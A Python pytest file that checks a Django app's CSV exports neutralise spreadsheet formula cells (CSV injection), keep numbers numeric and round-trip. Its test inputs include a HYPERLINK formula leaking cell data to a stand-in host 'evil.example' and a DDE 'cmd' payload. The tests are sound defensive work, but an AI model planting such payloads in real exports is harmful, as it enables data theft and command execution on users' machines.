"""CSV exports neutralise formula cells (OWASP "CSV Injection"), keep numbers as numbers, and
still read back into the records they were written from."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from django.urls import reverse

from scraping.sources.tabular.schema import TEMPLATE_CSV
from simulations.analysis.exports import load_records, neutralise_formula, read_csv, write_csv
from simulations.analysis.records import PostKind
from simulations.analysis.sentiment import ResponseRow, Sentiment, Stance
from tests.support import peloton

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your prize")'
FORMULAS = [
    HYPERLINK,
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=quoted already",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _row(text: str, score: float) -> ResponseRow:
    return ResponseRow(
        post_id="r1", author_id="p1", author_handle="@ada", kind=PostKind.REPLY, step=1, parent_id="s",
        stimulus_post_id="s", text=text, sentiment=Sentiment.NEGATIVE, score=score, stance=Stance.OPPOSE,
        reasons="-",
    )  # fmt: skip


def _cells(path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_a_spreadsheet_would_run_is_written_as_text(tmp_path, text):
    path = tmp_path / "responses.csv"
    write_csv(path, [_row(text, -0.5)], ResponseRow)
    [cells] = _cells(path)
    assert cells["text"] == "'" + text
    assert (cells["author_handle"], cells["reasons"]) == ("'@ada", "'-")
    assert read_csv(path, ResponseRow) == [_row(text, -0.5)]  # the quote comes off again


def test_numbers_stay_numbers_and_plain_text_is_untouched(tmp_path):
    path = tmp_path / "responses.csv"
    write_csv(path, [_row("Sexist ad. 'Tis the season?", -0.5), _row("Love it", 0.75)], ResponseRow)
    first, second = _cells(path)
    assert (first["score"], second["score"], first["step"]) == ("-0.5", "0.75", "1")
    assert (first["text"], second["text"]) == ("Sexist ad. 'Tis the season?", "Love it")


def test_neutralising_is_reversible_even_for_quoted_formulas():
    assert neutralise_formula("'=1") == "''=1" and neutralise_formula("'quote") == "'quote"


@pytest.mark.django_db
def test_a_runs_csv_download_neutralises_a_persona_reply(org_a, viewer_client, tmp_path):
    from tests.factories import ScenarioFactory
    from tests.support.run_rows import make_panel, store_fixture

    fixture = peloton.backlash_run()
    reply = next(post for post in fixture.posts if post.kind == PostKind.REPLY)
    posts = tuple(replace(post, text=HYPERLINK) if post is reply else post for post in fixture.posts)
    panel, personas = make_panel(org_a)
    run = store_fixture(
        replace(fixture, posts=posts), ScenarioFactory(organization=org_a, panel=panel), personas
    )

    for what in ("posts", "responses"):
        response = viewer_client.get(
            reverse("run_export", kwargs={"run_id": run.pk, "what": what, "fmt": "csv"})
        )
        assert response.status_code == 200
        body = b"".join(response.streaming_content) if response.streaming else response.content
        rows = list(csv.DictReader(io.StringIO(body.decode("utf-8"))))
        assert "'" + HYPERLINK in [row["text"] for row in rows]
        assert not [value for row in rows for value in row.values() if value.startswith("=")]
        path = tmp_path / f"{what}.csv"
        path.write_bytes(body)
        texts = [
            record.text for record in load_records(path, ResponseRow if what == "responses" else type(reply))
        ]
        assert HYPERLINK in texts
    scores = [float(row["score"]) for row in rows]  # the responses file: numbers, some negative
    assert any(score < 0 for score in scores)


def test_the_import_template_has_no_formula_cells():
    cells = [value for row in csv.reader(io.StringIO(TEMPLATE_CSV)) for value in row]
    assert cells and not [value for value in cells if value.startswith(TRIGGERS)]
